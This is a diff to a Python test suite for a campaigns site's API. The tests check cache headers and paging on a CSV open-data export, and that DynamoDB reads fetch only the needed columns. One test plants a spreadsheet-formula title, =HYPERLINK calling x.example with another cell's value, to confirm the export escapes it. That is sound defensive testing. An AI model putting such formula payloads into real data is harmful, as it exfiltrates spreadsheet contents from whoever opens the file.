@@ -140,3 +140,36 @@ def test_rising_now_is_support_gained_in_the_last_24_hours(api, make_user):
     assert [c["id"] for c in rising] == [ids["fast riser"], ids["new and quick"], ids["steady giant"]]
     top = _owned_by(owner.sub, _every_page(api, f"area={area}&sort=top&limit=100"))
     assert top[0]["id"] == ids["steady giant"]
+
+
+def test_open_data_pages_are_cacheable_and_follow_link_next(api, opened):
+    first = api.get("/campaigns.csv")
+    assert first.headers["Cache-Control"] == "public, max-age=300"  # anonymous, the same for everyone
+    assert first.headers["Link"].endswith('; rel="next"') and "cursor=" in first.headers["Link"]
+    following = first.headers["Link"].split(";")[0].strip("<>")
+    second = api.get(following)
+    assert second.status_code == 200 and second.headers["Cache-Control"] == "public, max-age=300"
+
+
+def test_open_data_reads_only_the_columns_it_writes(api, opened, dynamodb_calls):
+    """A page of 1,000 rows read whole campaigns (10 KB bodies) and every owner; now only its columns."""
+    assert api.get("/campaigns.csv").status_code == 200
+    batches = [c for c in dynamodb_calls.calls if c.operation == "BatchGetItem"]
+    assert batches
+    for call in batches:
+        for table, request in call.params["RequestItems"].items():
+            assert table.endswith("-campaigns"), table  # no owners, organisations or ministers looked up
+            projected = request.get("ProjectionExpression", "")
+            names = set(request.get("ExpressionAttributeNames", {}).values())
+            assert projected and "body" not in names and "owner_id" not in names, request
+
+
+def test_a_formula_in_a_title_stays_text_in_the_open_data(api, make_user):
+    """A spreadsheet would run `=HYPERLINK(...)` and send the row's other cells away."""
+    owner, moderator = make_user(), make_user("moderators")
+    title = '=HYPERLINK("https://x.example/?"&B2,"Details")'
+    campaign = open_campaign(api, owner, moderator, area="culture", title=title)
+    rows = list(csv.DictReader(io.StringIO(api.get("/campaigns.csv").body.decode())))
+    mine = [r for r in rows if r["id"] == campaign["id"]]
+    assert [r["title"] for r in mine] == ["'" + title]
+    assert json.loads(api.get(f"/campaigns/{campaign['id']}").body)["title"] == title  # the API keeps it as written
